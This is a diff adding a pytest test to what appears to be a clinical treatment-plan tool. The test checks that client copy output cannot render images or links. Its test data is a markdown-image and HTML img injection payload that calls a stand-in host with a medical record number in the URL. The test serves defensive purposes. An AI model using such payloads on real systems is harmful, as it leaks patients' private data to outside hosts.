@@ -162,3 +162,18 @@ def test_a_range_with_equal_ends_reads_as_one_figure() -> None:
     assert (
         plain("weekly, 12-12 sessions, then 1-2 a month") == "weekly, 12 sessions, then 1-2 a month"
     )
+
+
+def test_the_client_copy_file_cannot_form_an_image_or_link(
+    drafts: dict[str, TreatmentPlan],
+) -> None:
+    import re
+
+    plan = drafts["gad_nurse"].model_copy(deep=True)
+    hostile = "![x](http://203.0.113.9/p.png?mrn=MRN-20417) <img src=http://203.0.113.9/q>"
+    plan.goals[0].client_words = "worry less " + hostile
+    plan.strengths = [*plan.strengths, hostile]
+    body = client_copy.write(plan, final=False).decode()
+    assert "203.0.113.9" in body  # kept as text, for the reader
+    assert not re.search(r"(?<!\\)(?:!\[|\]\()", body)
+    assert "<img" not in body
